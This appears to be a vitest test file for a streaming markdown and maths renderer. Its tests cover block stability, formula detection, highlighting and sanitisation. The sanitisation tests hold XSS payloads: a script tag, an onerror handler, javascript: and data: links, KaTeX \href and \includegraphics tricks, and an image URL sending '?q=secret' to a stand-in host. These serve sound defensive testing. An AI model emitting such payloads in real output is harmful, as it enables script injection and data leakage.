import { describe, expect, it } from "vitest";

import { highlight } from "@/composables/highlight";
import { GrowingMarkdown, plainText, type Block } from "@/composables/markdown";
import { drawFormula, htmlOf } from "@/composables/maths";

function render(text: string): Block[] {
  return new GrowingMarkdown().update(text);
}

function html(text: string): string {
  return render(text)
    .map((block) => (block.kind === "html" ? block.html : block.code))
    .join("");
}

const TEXT = `# Title

A paragraph with **bold** and \`code\`.

- one
- two

  more of two

\`\`\`python
print("a")

print("b")
\`\`\`

| a | b |
|---|:-:|
| 1 | 2 |

Setext
===

A sum $a_1 + a_2$ and \\(b\\), then

$$
\\int_0^1 x^2

= \\frac13
$$

\\[
a

b
\\]

The end.`;

describe("a growing text", () => {
  it("ends as the same blocks as the whole text at once, wherever it was cut", () => {
    const whole = render(TEXT);
    expect(whole).toHaveLength(10);
    for (const size of [1, 2, 3, 7, 50]) {
      const growing = new GrowingMarkdown();
      let last: Block[] = [];
      for (let end = 0; end <= TEXT.length + size; end += size) last = growing.update(TEXT.slice(0, end));
      expect(last).toEqual(whole);
    }
  });

  it("keeps the blocks that are done as the same objects", () => {
    const growing = new GrowingMarkdown();
    const before = growing.update("One.\n\nTwo.\n\nThr");
    const after = growing.update("One.\n\nTwo.\n\nThree.");
    expect(after[0]).toBe(before[0]);
    expect(after[1]).toBe(before[1]);
    expect(after[2]).not.toEqual(before[2]);
  });

  it("begins again when the text was replaced", () => {
    const growing = new GrowingMarkdown();
    growing.update("One.\n\nTwo.\n\nThree.");
    expect(growing.update("Other.")).toEqual(render("Other."));
  });

  it("shows a code block while it is still open", () => {
    expect(render("Look:\n\n```js\nlet a")).toEqual([
      { key: 0, kind: "html", html: "<p>Look:</p>\n" },
      { key: 1, kind: "code", language: "js", code: "let a" },
    ]);
  });
});

describe("what a model could smuggle in", () => {
  it.each([
    ["<script>alert(1)</script>", /<script/],
    ["<img src=x onerror=alert(1)>", /<img/],
    ["[x](javascript:alert(1))", /href="javascript/],
    ["![x](https://elsewhere.example/?q=secret)", /<img/],
    ["[x](data:text/html,<script>alert(1)</script>)", /href="data/],
  ])("%s stays text", (text, forbidden) => {
    expect(html(text)).not.toMatch(forbidden);
  });

  it("links open in their own tab and tell nothing about us", () => {
    expect(html("[x](https://example.com)")).toMatch(/<a [^>]*target="_blank"[^>]*>/);
    expect(html("[x](https://example.com)")).toContain('rel="noopener noreferrer nofollow"');
  });

  it("table cells are aligned by class, since the page's policy forbids style attributes", () => {
    const table = html("| a |\n|--:|\n| 1 |");
    expect(table).toContain('class="align-right"');
    expect(table).not.toContain("style");
  });
});

describe("maths", () => {
  const formulas = (text: string): string[] => [...html(text).matchAll(/<span class="(math[^"]*)">([^<]*)<\/span>/g)].map((match) => `${match[1]}: ${match[2]}`);

  it.each([
    ["so $x^2$ it is", ["math: x^2"]],
    ["so \\(x_1*y*\\) it is", ["math: x_1*y*"]],
    ["so $$x$$ it is", ["math displayed: x"]],
    ["$$x$$", ["math displayed: x"]],
    ["$$x$$ and $$y$$", ["math displayed: x", "math displayed: y"]],
    ["\\[x\\]", ["math displayed: x"]],
    ["\\[\na\n\n- b\n\\]", ["math displayed: a\n\n- b"]],
    ["$$ a\n- b $$", ["math displayed: a\n- b"]],
    ["- a list\n  $$\n  y\n  $$\n- more", ["math displayed: y"]],
    ["若 $a<b$，则 $b>a$。", ["math: a&lt;b", "math: b&gt;a"]],
  ])("%j is read", (text, found) => {
    expect(formulas(text)).toEqual(found);
  });

  it.each(["from $5 to $10", "$HOME or `$PATH`", "`$x$`", "\\$x\\$", "a $ b $ c", "$$ is money", "\\\\(x\\\\)", "    $$\n    x\n    $$"])("%j is none", (text) => {
    expect(formulas(text)).toEqual([]);
  });

  it("holds what follows while it is still being written", () => {
    expect(formulas("$$\na\n\n# b")).toEqual(["math displayed: a\n\n# b"]);
  });

  it("is drawn without a style attribute in the markup", () => {
    const drawn = htmlOf("\\vec{x} = \\sqrt{\\frac{a}{b}} + \\boxed{y}", true) ?? "";
    expect(drawn).toContain("<math");
    expect(drawn).toContain("data-style=");
    expect(drawn).not.toMatch(/\sstyle=/);
    expect(drawn).not.toContain("annotation");
  });

  it("stands where KaTeX says, set through the element's own style", () => {
    const element = document.createElement("span");
    element.className = "math";
    element.textContent = "x^2";
    drawFormula(element);
    expect(element.className).toBe("math drawn");
    expect(element.querySelector("[data-style]")).toBeNull();
    expect(element.querySelector<HTMLElement>(".strut")?.style.height).toMatch(/em$/);
  });

  it("that is no TeX stays as it was written", () => {
    const element = document.createElement("span");
    element.textContent = "\\frac{";
    drawFormula(element);
    expect(element.textContent).toBe("\\frac{");
    expect(element.classList.contains("unread")).toBe(true);
  });

  it.each(["\\href{javascript:alert(1)}{x}", "\\includegraphics{https://elsewhere.example/x.png}", "\\htmlStyle{color:red}{x}"])("%s does nothing", (tex) => {
    expect(htmlOf(tex, false) ?? "").not.toMatch(/<a |href=|src=|<img|color:red/);
  });
});

describe("code", () => {
  it("is coloured by classes, and what it holds stays text", () => {
    expect(highlight("let a = '<b>';", "js")).toContain('<span class="hljs-keyword">let</span>');
    expect(highlight("let a = '<b>';", "js")).toContain("&lt;b&gt;");
  });

  it("of a language that nobody knows stays plain", () => {
    expect(highlight("x", "no-such-language")).toBeNull();
  });
});

describe("the plain text", () => {
  it("is what is said, without the marks", () => {
    expect(plainText("# A\n\nB **bold** [link](https://x.example) `c` $d$\n\n```js\ne\n```\n\n| f | g |\n|--|--|\n| h | i |", { code: true, formula: () => false })).toBe(
      "A\nB bold link c \ne\nf\ng\nh\ni",
    );
  });

  it("leaves out code where nobody wants to hear it", () => {
    expect(plainText("A\n\n```js\ne\n```\n\nB $d$", { code: false, formula: () => true })).toBe("A\nB d");
  });
});
